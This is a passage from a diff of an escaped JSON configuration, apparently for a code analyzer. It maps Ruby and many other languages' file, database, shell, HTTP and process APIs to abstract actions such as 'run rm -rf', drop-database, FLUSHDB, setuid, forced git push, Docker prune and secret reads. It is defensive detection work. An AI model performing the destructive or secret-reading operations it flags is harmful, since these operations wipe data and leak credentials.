+etrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@",\
+"interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby","patterns":true,"lines":"statements"},"program":"ruby","blocks\
+":"end","member_operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","E\
+NV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Octokit.","Git\
+lab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"F\
+ileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUti\
+ls.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self\
+)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print line","print":"print text","gets":"input","readlines":"input","Rails.application":"name\
+ rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-databas\
+e db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","ra\
+ils_application.credentials":"secret","send":"invoke $0 $1..","public_send":"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]\
+":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made se\
+quel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","IO.p\
+open":"calls-back command $0","Open3.popen2":"calls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"calls-back command $all","syste\
+m":"command $all","exec":"command $all","spawn":"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all",\
+"PTY.spawn":"command $all","Process.Sys.setuid":"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege":"run setuid $0","Process.UI\
+D.grant_privilege":"run setuid $0","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","\
+binding.eval":"eval $0","Sidekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new"\
+:"made sidekiq","Sidekiq.Queue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made m\
+ock","MockRedis.new":"made mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries\
+ model","Mongo.Client.new":"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clie\
+nts.with_name":"made mongo","Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sq\
+l drop-database mongoid","Mongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.o\
+pen":"calls-back open $0 $1","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Far\
+aday.get":"request GET $0","RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.\
+post":"request POST $0 $1 $:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json\
+ $:form","Faraday.post":"request POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:\
+body $:json $:form","Excon.post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request \
+DELETE $0","Faraday.delete":"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Ty\
+phoeus.delete":"request DELETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"\
+value $0","File.expand_path":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","Fi\
+le.foreach":"read $0","File.binread":"read $0","IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.safe_load_file":"read $0","YAML.\
+unsafe_load_file":"read $0","Psych.load_file":"read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CSV.table":"read $0","Dotenv.pa\
+rse":"read $0","IniFile.load":"read $0","TomlRB.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"r\
+un rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Di\
+r.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf \
+$all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run \
+mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run l\
+n -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File\
+.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .",\
+"Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0",\
+"Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repe\
+ats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"methods":{"write":"send $self $0","puts":"send $self $0","execute":"sql $0","exec\
+_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $self $0",\
+"const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1..","then":"then","yield_se\
+lf":"then","find_each":"if-name calls-back made rows","in_batches":"if-name calls-back made rows","update_all":"if-name run sql update-all $owner","destroy":"if\
+-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","purge":"if-si\
+gn:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run docker volume rm $self","open":"if-text calls-back open $self\
+ $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner \
+| run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","delete\
+":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run sql flush FLUSHDB | if-database if-none run sql delete-all $\
+owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","truncate":"if-made:sequel run sq\
+l truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"value $self","compact":"value $self","uniq":"value $self","s\
+ort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-made:sidekiq run celery purge","database":"if-made:mongo valu\
+e $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"if-made:ssh shell $0","eval":"if-content eval $self | if-tex\
+t eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:content eval $0 | if-arg:text eval $0","instance_eval":"if-arg:c\
+ontent eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-says:^hard$ if-args:2 run git reset --hard","from":"if-made:\
+sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entries keys","rmtree":"if-text run rm -rf $self","children":"f\
+older $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received | if-list any-of $self","readline":"if-made:peer received |\
+ if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","recv":"if-made:peer received | if-made:connection received","\
+recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer received | if-made:connection received","read":"if-made:peer \
+received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made peer","shift":"if-list any-of $self","first":"at 0 $self","la\
+st":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self","values":"if-map values $self","each_value":"if-map value\
+s $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":false,"lines":\
+"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["function"],\
+"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"texts":{"os.pwd":".","os.home":"~","FileManager.default.homeDi\
+rectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.temporaryDirectory":"/tmp/temporary","Director\
+y.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"aliases":{},"rewrites":[["^(?:(?:System\\\\.IO|std|tokio|j\
+ava|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":"print","console.log":"print"\
+,"redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"characters $all","table.concat":"\
+join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all","list":"value $all","List.of"\
+:"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all","Arrays.asList":"value $all",\
+"Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List.toList":"value $all","IO.ins\
+pect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_existing_atom":"value $0","expan\
+d_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0","File.toPath":"value $0","P\
+ath.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","URL":"value $0","URI":"value $0","URI.create":"value $0","Uri.\
+parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","opendir":"value $0"\
+,"filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"value $0","Proces\
+s":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $all","Path.of":"\
+join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":"join $all","pat\
+h":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"join $all","path_jo\
+in":"join $all","Path.Join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value\
+ ~","homedir":"value ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryF\
+orCurrentUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"\
+value .","env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getPro\
+perty":"environment $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"enviro\
+nment $0","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","temp\
+file.tempdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tem\
+pname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc\
+","tempfile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /\
+tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value\
+ /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.create\
+TempSync":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value \
+/tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly\
+.create":"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"r\
+un rm $0","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run \
+rm $0","os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run \
+rm $0","vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run\
+ rm $0","delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0"\
+,"Files.remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtil\
+s.forceDelete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run \
+rm -rf $0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcib\
+ly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_direc\
+tory_tree":"run rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0",\
+"gen_tcp.recv":"received","require":"module $0","SqlCommand":"sql $0","NpgsqlCommand":"sql $0","MySqlCommand":"sql $0","SqliteCommand":"sql $0","OracleCommand":\
+"sql $0","OleDbCommand":"sql $0","OdbcCommand":"sql $0","setuid":"run setuid $0","seteuid":"run setuid $0","syscall.Setuid":"run setuid $0","unix.Setuid":"run s\
+etuid $0","setreuid":"run setuid $last","setresuid":"run setuid $last","lfs.rmdir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rm\
+dir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shel\
+l $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"she\
+ll $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.\
+run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0","run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shel\
+l $0","call_process":"program $all","start_process":"program $all","exec.Command":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program \
+$all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","System.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 \
+$1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execute $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute\
+ $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"\
+write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteA\
+llText":"write $0 $1","File.WriteAllLines":"write $0 $1","File.WriteAllBytes":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","File.Appen\
+dAllText":"write $0 $1 append","File.AppendAllLines":"write $0 $1 append","writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"op\
+en $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat":"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","F\
+ileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open $0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadF\
+ile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllByte\
+s":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.ReadAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $\
+0","FileInputStream":"read $0","FileReader":"read $0","File.ReadAllLines":"read $0","File.ReadAllBytes":"read $0","File.ReadLines":"read $0","File.OpenText":"re\
+ad $0","File.OpenRead":"read $0","StreamReader":"read $0","godotenv.Read":"read $0","toml.DecodeFile":"read $0","ini.Load":"read $0","readRDS":"read $0","read_y\
+aml":"read $0","read_json":"read $0","fromJSON":"read $0","read.csv":"read $0","read.table":"read $0","readr::read_file":"read $0","TOML.parsefile":"read $0","Y\
+AML.load_file":"read $0","JSON.parsefile":"read $0","readdlm":"read $0","String.contentsOfFile":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpReq\
+uest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs\
+.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","directory_files":"folder $0","list.files":"folder $0","list.dirs":"folder $0","\
+dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0","directory_iterator":"folder $0","directory_files_recursively":"fol\
+der $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"folder $0 below","recursive_directory_iterator":"folder $0 below","walkd\
+ir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.WalkDir":"calls-back folder $0 below","nftw":"calls-back folder $0 belo\
+w","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","filepath.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glo\
+b":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dirname":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format\
+ $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","wo\
+rds":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split":"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"\
+map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","\
+for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"map $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall\
+":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sql $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0\
+ | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.query":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"s\
+ql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":"s\
+ql $0 | sql $1","sql_query":"sql $0 | sql $1","dbRemoveTable":"run sql drop-table rows","mnesia.delete_table":"run sql drop-table rows","mnesia.clear_table":"ru\
+n sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"eval $2","socket.http.request":"request GET $0","ssl.https.request":"\
+request GET $0","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0",\
+"http.get":"request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request\
+ POST $0 $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"re\
+quest POST $0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made r\
+equest $0","jenkinsItems":"made jenkins"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onE\
+nter":"value $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self"\
+,"into_iter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok"\
+:"value $self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self"\
+,"toString":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value\
+ $self","filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":\
+"value $self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"\
+value $self","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value\
+ $self","into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if\
+-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"\
+if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql drop-\
+database db","dropDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","o\
+utput":"if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOut\
+put":"if-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $a\
+ll","args":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":\
+"run rm -rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenki\
+ns run cloud-sdk delete","getPlainText":"run Get-Secret","receive":"if-sign:network received","recv":"if-sign:network received","ReadString":"if-sign:network re\
+ceived","ReadBytes":"if-sign:network received","ReadLine":"if-sign:network received","readLine":"if-sign:network received","ReadLineAsync":"if-sign:network rece\
+ived","FormValue":"if-sign:network received","PostFormValue":"if-sign:network received","read_line":"if-sign:network received","Push":"if-option:Force=true run \
+git push --force","PushContext":"if-option:Force=true run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":"run docker volume rm $1","Vo\
+lumesPrune":"run docker volume prune -af","SystemPrune":"run docker system prune -af","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-text \
+run rm -r $self","rm":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":"join $self $0","a\
+ppending":"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self","listSync":"fold\
+er $self","children":"folder $self","read_dir":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below"\
+,"contentsOfDirectory":"folder $0:at:atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"wri\
+te $self $0","writeAsStringSync":"write $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"o\
+pen $self w","bufferedWriter":"open $self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsSt\
+ringSync":"read $self","readBytes":"read $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send \
+$self $0","puts":"send $self $0","POST":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"\
+made request $0","Exec":"sql $0 | sql $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1\
+","MustExec":"sql $0 | sql $1","executeUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sq\
+l $1","prepareStatement":"sql $0 | sql $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1"\
+,"executeSql":"sql $0 | sql $1","rawQuery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"d\
+ialects":{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*\
+?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:symlink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+\
+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|g\
+etenv)|io\\\\.(?:popen|open)|require)\\\\s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([\
